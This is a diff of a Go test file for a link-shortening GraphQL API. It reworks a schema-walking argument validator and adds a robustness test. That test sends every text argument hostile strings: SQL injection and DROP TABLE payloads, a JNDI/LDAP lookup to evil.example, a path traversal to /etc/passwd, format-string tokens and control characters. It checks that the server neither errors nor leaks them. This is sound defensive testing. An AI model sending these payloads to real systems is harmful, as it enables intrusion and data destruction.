@@ -11,6 +11,7 @@ import (
 	"github.com/vektah/gqlparser/v2/ast"
 
 	"github.com/linkforge/linkforge/graph/gen"
+	"github.com/linkforge/linkforge/internal/db"
 	"github.com/linkforge/linkforge/internal/dbtest"
 	"github.com/linkforge/linkforge/internal/must"
 	"github.com/linkforge/linkforge/internal/suitetest"
@@ -34,7 +35,7 @@ func TestArguments_RefusesWrongValuesOfEveryArgument(t *testing.T) {
 	b := setup(t, dbtest.MigratedSQLite(t), func(c *Config) { c.Introspection = true })
 	schema := gen.NewExecutableSchema(gen.Config{}).Schema()
 	tokens := map[string]string{"anonymous": "", "signed in": b.person(t, "ada").token}
-	cases := everyWrongArgument(schema)
+	cases := everyArgument(schema, wrongValues)
 	if len(cases) < 5000 {
 		t.Errorf("only %d cases: the walk does not reach the whole schema", len(cases))
 	}
@@ -61,6 +62,60 @@ func TestArguments_RefusesWrongValuesOfEveryArgument(t *testing.T) {
 	if log := b.log.String(); strings.Contains(log, argumentMarker) || strings.Contains(log, "level=ERROR") {
 		t.Errorf("the log has the value, or an error: %.1000s", log)
 	}
+}
+
+// TestArguments_SurviveHostileText puts text that databases, logs and templates may trip over into every argument and
+// input field that takes text, of the caller's own objects. Text that is not UTF-8 never reaches an argument.
+func TestArguments_SurviveHostileText(t *testing.T) {
+	t.Parallel()
+	texts := []string{
+		`\u0000`, `\u0001\u001f\u007f\u0085\u2028`, `' OR '1'='1' -- `, `\"; DROP TABLE links; -- `,
+		`%s%n%00 {{.}} ${jndi:ldap://evil.example/}`, `../../../../etc/passwd`, `\ufeff\u202e`, `Local`, `? ?0 ?1`, ` `,
+		`https://example.com/ ' OR 1=1 --`, strings.Repeat("x", 100_000),
+	}
+	schema := gen.NewExecutableSchema(gen.Config{}).Schema()
+	cases := everyArgument(schema, func(_ *ast.Type, d *ast.Definition) map[string]wrongValue {
+		all := map[string]wrongValue{}
+		if slices.Contains([]string{"String", "ID", "URL", "EmailAddress", "Time"}, d.Name) {
+			all["nothing"] = wrongValue{value: json.RawMessage(`""`)}
+			for _, text := range texts {
+				all[text[:min(len(text), 20)]] = wrongValue{value: json.RawMessage(`"` + text + argumentMarker + `"`)}
+			}
+		}
+		return all
+	})
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		b := setup(t, dbtest.Migrated(t, d))
+		ada := b.person(t, "ada")
+		own := b.link(t, ada, "https://example.com/").ID
+		asked := 0
+		for _, c := range cases {
+			if c.variables == nil {
+				continue
+			}
+			asked++
+			id := own
+			if strings.Contains(strings.ToLower(c.query), "workspace(") {
+				id = ada.workspace.ID()
+			}
+			body := strings.NewReplacer(`workspaceId: \"x`, `workspaceId: \"`+ada.workspace.ID(), `id: \"x`, `id: \"`+id,
+				`"workspaceId":"x`, `"workspaceId":"`+ada.workspace.ID(), `"id":"x`, `"id":"`+id,
+			).Replace(string(must.Value(json.Marshal(map[string]any{"query": c.query, "variables": c.variables}))(t)))
+			r := b.send(t, ada.token, "POST", "/graphql", "application/json", body, mediaGraphQL)
+			if strings.Contains(r.text, "INTERNAL") || r.status >= 500 || strings.Contains(r.text, argumentMarker) {
+				t.Errorf("%s: %d %.300s\n%.500s", c.name, r.status, r.text, body)
+			}
+		}
+		if asked < 1000 {
+			t.Errorf("only %d cases", asked)
+		}
+		if b.ask(t, ada.token, `query ($x: ID!) { link(by: {id: $x}) { id } }`, "x", own).text != `{"data":{"link":{"id":"`+own+`"}}}` {
+			t.Error("the link is gone")
+		}
+		if log := b.log.String(); strings.Contains(log, argumentMarker) || strings.Contains(log, "level=ERROR") {
+			t.Errorf("the log has the value, or an error: %.1000s", log)
+		}
+	})
 }
 
 // TestArguments_CoercesAsTheSpecificationSays has the cases that are not about one argument alone.
@@ -123,6 +178,10 @@ func TestArguments_CoercesAsTheSpecificationSays(t *testing.T) {
 		"two fields of a oneOf by variable": {
 			`query ($x: String!) { link(by: {id: "x", shortUrl: $x}) { id } }`,
 			`{"x": "a"}`, "link.by: Give exactly one",
+		},
+		"one field and null of a oneOf": {
+			`query ($x: LinkBy!) { link(by: $x) { id } }`,
+			`{"x": {"id": "x", "shortUrl": null}}`, "link.by",
 		},
 		"variable in an object": {
 			`mutation ($x: Int64) { createLink(input: {workspaceId: "x", url: "u", maxClicks: $x}) { created } }`,
@@ -201,9 +260,9 @@ func TestArguments_CoercesAsTheSpecificationSays(t *testing.T) {
 	}
 }
 
-// everyWrongArgument returns the cases for all fields of the schema.
-func everyWrongArgument(schema *ast.Schema) (all []argumentCase) {
-	seen, seenInputs := map[string]bool{}, map[string]bool{}
+// everyArgument returns the cases for all fields of the schema, with values for each type.
+func everyArgument(schema *ast.Schema, values func(*ast.Type, *ast.Definition) map[string]wrongValue) (all []argumentCase) {
+	seen, input := map[string]bool{}, inputWalk{schema, values, map[string]bool{}}
 	ways := []fieldWay{
 		{of: schema.Query, kind: "query"}, {of: schema.Mutation, kind: "mutation"},
 		{of: schema.Subscription, kind: "subscription"},
@@ -216,7 +275,7 @@ func everyWrongArgument(schema *ast.Schema) (all []argumentCase) {
 		seen[w.of.Name] = true
 		for _, f := range w.of.Fields {
 			for _, a := range f.Arguments {
-				all = append(all, w.cases(schema, f, a, seenInputs)...)
+				all = append(all, w.cases(input, f, a)...)
 			}
 			if d := schema.Types[f.Type.Name()]; d.IsCompositeType() {
 				arguments := strings.TrimSuffix("("+requiredArguments(schema, f, "")+")", "()")
@@ -236,18 +295,21 @@ type fieldWay struct {
 
 // cases returns an operation for each wrong value of an argument: as a literal, a variable and a
 // variable's default.
-func (w fieldWay) cases(
-	schema *ast.Schema, f *ast.FieldDefinition, a *ast.ArgumentDefinition, seenInputs map[string]bool,
-) (all []argumentCase) {
-	others, selection := requiredArguments(schema, f, a.Name), ""
-	if schema.Types[f.Type.Name()].IsCompositeType() {
+func (w fieldWay) cases(input inputWalk, f *ast.FieldDefinition, a *ast.ArgumentDefinition) (all []argumentCase) {
+	others, selection := requiredArguments(input.schema, f, a.Name), ""
+	if d := input.schema.Types[f.Type.Name()]; d.IsCompositeType() {
 		selection = " { __typename }"
+		for _, counted := range []string{"clicks", "totalCount"} {
+			if n := d.Fields.ForName(counted); n != nil && len(n.Arguments) == 0 {
+				selection = " { " + counted + " }" // which reads the rows
+			}
+		}
 	}
 	write := func(variable, value string) string {
 		return fmt.Sprintf("%s%s {%s %s(%s%s: %s)%s%s }",
 			w.kind, variable, w.before, f.Name, others, a.Name, value, selection, w.after)
 	}
-	for name, wrong := range wrongValues(schema, a.Type, seenInputs) {
+	for name, wrong := range input.values(a.Type) {
 		path := w.path + f.Name + "." + a.Name + wrong.below
 		all = append(all, argumentCase{path + ": " + name, write("", literalOf(wrong.value)), path + ": ", nil})
 		byDefault := write("($x: "+a.Type.String()+" = "+literalOf(wrong.value)+")", "$x")
@@ -281,17 +343,42 @@ type wrongValue struct {
 	literalOnly bool
 }
 
-// wrongValues returns a value of each JSON type that the schema's type does not allow, by a
-// description. It looks into the input types that were not seen yet.
-func wrongValues(schema *ast.Schema, t *ast.Type, seenInputs map[string]bool) map[string]wrongValue {
+// inputWalk goes through the types of arguments, into the input types that were not seen yet.
+type inputWalk struct {
+	schema *ast.Schema
+	leaves func(*ast.Type, *ast.Definition) map[string]wrongValue
+	seen   map[string]bool
+}
+
+// values returns values of a type with one mistake each, by a description.
+func (w inputWalk) values(t *ast.Type) map[string]wrongValue {
+	all := map[string]wrongValue{}
 	if t.Elem != nil {
-		all := map[string]wrongValue{}
-		for name, w := range wrongValues(schema, t.Elem, seenInputs) {
-			all["a list of "+name] = wrongValue{[]any{w.value}, "[0]" + w.below, w.literalOnly}
+		for name, v := range w.values(t.Elem) {
+			all["a list of "+name] = wrongValue{[]any{v.value}, "[0]" + v.below, v.literalOnly}
 		}
 		return all
 	}
-	d := schema.Types[t.NamedType]
+	d := w.schema.Types[t.NamedType]
+	maps.Copy(all, w.leaves(t, d))
+	if d.Kind == ast.InputObject && !w.seen[d.Name] {
+		w.seen[d.Name] = true
+		for _, f := range d.Fields {
+			for name, v := range w.values(f.Type) {
+				input := map[string]any{}
+				if d.Directives.ForName("oneOf") == nil {
+					input = rightValue(w.schema, ast.NonNullNamedType(d.Name, nil)).(map[string]any)
+				}
+				input[f.Name] = v.value
+				all[f.Name+" of "+name] = wrongValue{input, "." + f.Name + v.below, v.literalOnly}
+			}
+		}
+	}
+	return all
+}
+
+// wrongValues returns a value of each JSON type that the schema's type does not allow.
+func wrongValues(t *ast.Type, d *ast.Definition) map[string]wrongValue {
 	all := map[string]wrongValue{
 		"text": {value: argumentMarker}, "digits": {value: "5"}, "text of a boolean": {value: "true"},
 		"an integer": {value: 5}, "a fraction": {value: 1.5}, "a boolean": {value: true},
@@ -320,27 +407,6 @@ func wrongValues(schema *ast.Schema, t *ast.Type, seenInputs map[string]bool) ma
 	}
 	if d.Kind == ast.InputObject {
 		delete(all, "an empty object")
-		maps.Copy(all, wrongInputs(schema, d, seenInputs))
-	}
-	return all
-}
-
-// wrongInputs returns objects of an input type with one wrong field, the first time.
-func wrongInputs(schema *ast.Schema, d *ast.Definition, seenInputs map[string]bool) map[string]wrongValue {
-	all := map[string]wrongValue{}
-	if seenInputs[d.Name] {
-		return all
-	}
-	seenInputs[d.Name] = true
-	for _, f := range d.Fields {
-		for name, w := range wrongValues(schema, f.Type, seenInputs) {
-			input := map[string]any{}
-			if d.Directives.ForName("oneOf") == nil {
-				input = rightValue(schema, ast.NonNullNamedType(d.Name, nil)).(map[string]any)
-			}
-			input[f.Name] = w.value
-			all[f.Name+" of "+name] = wrongValue{input, "." + f.Name + w.below, w.literalOnly}
-		}
 	}
 	return all
 }
